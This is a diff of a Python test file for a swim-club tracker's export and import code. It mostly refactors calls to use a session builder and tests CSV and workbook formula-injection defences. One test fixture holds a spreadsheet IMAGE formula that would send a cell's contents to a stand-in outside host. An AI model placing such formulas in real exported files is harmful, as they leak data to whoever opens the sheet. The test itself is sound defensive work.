@@ -12,6 +12,7 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, Phase, given, settings
 
+from tests.builders import a_session
 from tests.random_clubs import clubs
 from tracker.app.export_club import export_club
 from tracker.app.import_club import import_club
@@ -50,9 +51,9 @@ def content(folder: Path) -> dict[str, bytes]:
 def through_import(folder: Path, place: Path) -> dict[str, bytes]:
     """Import a folder into an empty database and export that."""
     other = Store.open(place / "other.db")
-    report = import_club(other, folder, as_of=AS_OF, settings=DEFAULT, who="c", at=NOW)
+    report = import_club(a_session(other), folder)
     assert report.problems == ()
-    export_club(other, place / "again", settings=DEFAULT)
+    export_club(a_session(other), place / "again")
     other.close()
     return content(place / "again")
 
@@ -69,7 +70,7 @@ def test_export_import_export_is_identical_to_the_byte(club: list[Record]) -> No
         place = Path(folder)
         store = Store.open(place / "first.db")
         add(store, club)
-        export_club(store, place / "once", settings=DEFAULT)
+        export_club(a_session(store), place / "once")
         store.close()
         assert content(place / "once") == through_import(place / "once", place)
 
@@ -103,10 +104,10 @@ def test_a_formula_is_disarmed_by_one_apostrophe_and_comes_back(
 ) -> None:
     """A spreadsheet would run it (OWASP, CSV injection; CWE-1236); a carriage return is refused before."""
     add(store, [Swimmer(swimmer=ANA, note=text)])
-    export_club(store, tmp_path / "out", settings=DEFAULT)
+    export_club(a_session(store), tmp_path / "out")
     assert cell(tmp_path / "out", "swimmers.csv", "note") == "'" + text
     other = Store.open(tmp_path / "other.db")
-    import_club(other, tmp_path / "out", as_of=AS_OF, settings=DEFAULT, who="c", at=NOW)
+    import_club(a_session(other), tmp_path / "out")
     with other.read() as reader:
         assert reader.swimmer(ANA).record.note == text
     other.close()
@@ -116,7 +117,7 @@ def test_an_apostrophe_of_somebody_elses_file_stays(store: Store, tmp_path: Path
     """Only what we wrote ourselves is taken off."""
     file = tmp_path / "swimmers.csv"
     file.write_text("swimmer,note\nO'Dea,'=1\n")
-    import_club(store, file, as_of=AS_OF, settings=DEFAULT, who="c", at=NOW)
+    import_club(a_session(store), file)
     with store.read() as reader:
         assert reader.swimmer("O'Dea").record.note == "'=1"
 
@@ -124,15 +125,15 @@ def test_an_apostrophe_of_somebody_elses_file_stays(store: Store, tmp_path: Path
 def test_a_negative_number_stays_a_number(store: Store, tmp_path: Path) -> None:
     item = ReviewItem(date=AS_OF, swimmer=ANA, reviewer="Bo", kind="measure", item="body-angle", value=-0.5)
     add(store, [Swimmer(swimmer=ANA), item])
-    export_club(store, tmp_path / "out", settings=DEFAULT)
+    export_club(a_session(store), tmp_path / "out")
     assert cell(tmp_path / "out", "reviews.csv", "value") == "-0.5"
 
 
 def test_health_is_left_out_or_a_break(store: Store, tmp_path: Path) -> None:
     add(store, [Swimmer(swimmer=ANA), Event(from_date=AS_OF, swimmer=ANA, kind="injury", note="shoulder")])
-    report = export_club(store, tmp_path / "off", settings=DEFAULT)
+    report = export_club(a_session(store), tmp_path / "off")
     assert report.health_left_out == 1
-    export_club(store, tmp_path / "on", settings=replace(DEFAULT, health=True))
+    export_club(a_session(store, settings=replace(DEFAULT, health=True)), tmp_path / "on")
     assert b"shoulder" not in b"".join(
         [*content(tmp_path / "off").values(), *content(tmp_path / "on").values()]
     )
@@ -147,18 +148,18 @@ def test_existing_files_are_replaced_only_if_told(store: Store, tmp_path: Path) 
     out.mkdir()
     (out / "load.csv").write_text("mine")
     with pytest.raises(UsageError, match=r"load\.csv exists already"):
-        export_club(store, out, settings=DEFAULT)
+        export_club(a_session(store), out)
     assert content(out) == {"load.csv": b"mine"}
-    export_club(store, out, settings=DEFAULT, force=True)
+    export_club(a_session(store), out, force=True)
     assert content(out)["load.csv"].startswith(b"week")
 
 
 def test_a_folder_that_cannot_be_made_is_said_and_nothing_is_left(store: Store, tmp_path: Path) -> None:
     (tmp_path / "file").write_text("x")
     with pytest.raises(SlackwaterError, match="cannot write"):
-        export_club(store, tmp_path / "file" / "out", settings=DEFAULT)
+        export_club(a_session(store), tmp_path / "file" / "out")
     with pytest.raises(UsageError, match="no format"):
-        export_club(store, tmp_path / "out", formats=("pkl",), settings=DEFAULT)
+        export_club(a_session(store), tmp_path / "out", formats=("pkl",))
     assert not (tmp_path / "out").exists()
 
 
@@ -181,7 +182,7 @@ def test_exports_are_their_owners_alone(store: Store, tmp_path: Path, umask: int
     add(store, [Swimmer(swimmer=ANA), Swim(date=AS_OF, swimmer=ANA, distance_m=400, time_s=400)])
     before = os.umask(umask)
     try:
-        export_club(store, tmp_path / "a" / "out", settings=DEFAULT)
+        export_club(a_session(store), tmp_path / "a" / "out")
     finally:
         os.umask(before)
     assert {stat.S_IMODE(file.stat().st_mode) for file in (tmp_path / "a" / "out").iterdir()} == {0o600}
@@ -194,7 +195,7 @@ def test_a_plain_reader_reads_it_all(store: Store, tmp_path: Path) -> None:
         store,
         [Swimmer(swimmer=ANA), Swim(date=AS_OF, swimmer=ANA, distance_m=400, time_s=405.2, note="a\nb")],
     )
-    export_club(store, tmp_path / "out", settings=DEFAULT)
+    export_club(a_session(store), tmp_path / "out")
     rows = {}
     for file in (tmp_path / "out").glob("*.csv"):
         with file.open(encoding="utf-8", newline="") as stream:
@@ -211,11 +212,11 @@ def test_a_workbook_brings_back_the_same_club(club: list[Record]) -> None:
         place = Path(folder)
         store, other = Store.open(place / "first.db"), Store.open(place / "other.db")
         add(store, club)
-        export_club(store, place / "book", settings=DEFAULT, formats=("xlsx", "csv"))
+        export_club(a_session(store), place / "book", formats=("xlsx", "csv"))
         book = place / "book" / "club.xlsx"
-        report = import_club(other, book, as_of=AS_OF, settings=DEFAULT, who="c", at=NOW)
+        report = import_club(a_session(other), book)
         assert report.problems == ()
-        export_club(other, place / "again", settings=DEFAULT)
+        export_club(a_session(other), place / "again")
         store.close()
         other.close()
         once = content(place / "book")
@@ -228,7 +229,7 @@ def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
     import openpyxl
 
     add(store, [Swimmer(swimmer='=IMAGE("http://buoy.test/?"&A2,"tide")', note="#N/A")])
-    export_club(store, tmp_path, settings=DEFAULT, formats=("xlsx",))
+    export_club(a_session(store), tmp_path, formats=("xlsx",))
     sheet = openpyxl.load_workbook(tmp_path / "club.xlsx")["swimmers"]
     assert sheet["A2"].data_type == "s"
     assert str(sheet["A2"].value).startswith("'=IMAGE")
@@ -238,7 +239,7 @@ def test_a_workbook_holds_no_formula(store: Store, tmp_path: Path) -> None:
 def test_what_a_workbook_cannot_hold_is_said(store: Store, tmp_path: Path) -> None:
     add(store, [Swimmer(swimmer=ANA, note="_x000B_")])
     with pytest.raises(SlackwaterError, match="export it as csv"):
-        export_club(store, tmp_path / "x", settings=DEFAULT, formats=("xlsx",))
+        export_club(a_session(store), tmp_path / "x", formats=("xlsx",))
     assert not (tmp_path / "x" / "club.xlsx").exists()
 
 
@@ -255,7 +256,7 @@ def test_json_lines_obey_the_committed_schema_and_hold_everything(club: list[Rec
     with tempfile.TemporaryDirectory() as folder:
         store = Store.open(Path(folder) / "first.db")
         add(store, club)
-        export_club(store, Path(folder), settings=DEFAULT, formats=("jsonl",))
+        export_club(a_session(store), Path(folder), formats=("jsonl",))
         store.close()
         lines = [
             json.loads(line) for line in (Path(folder) / "club.jsonl").read_text("utf-8").split("\n")[:-1]
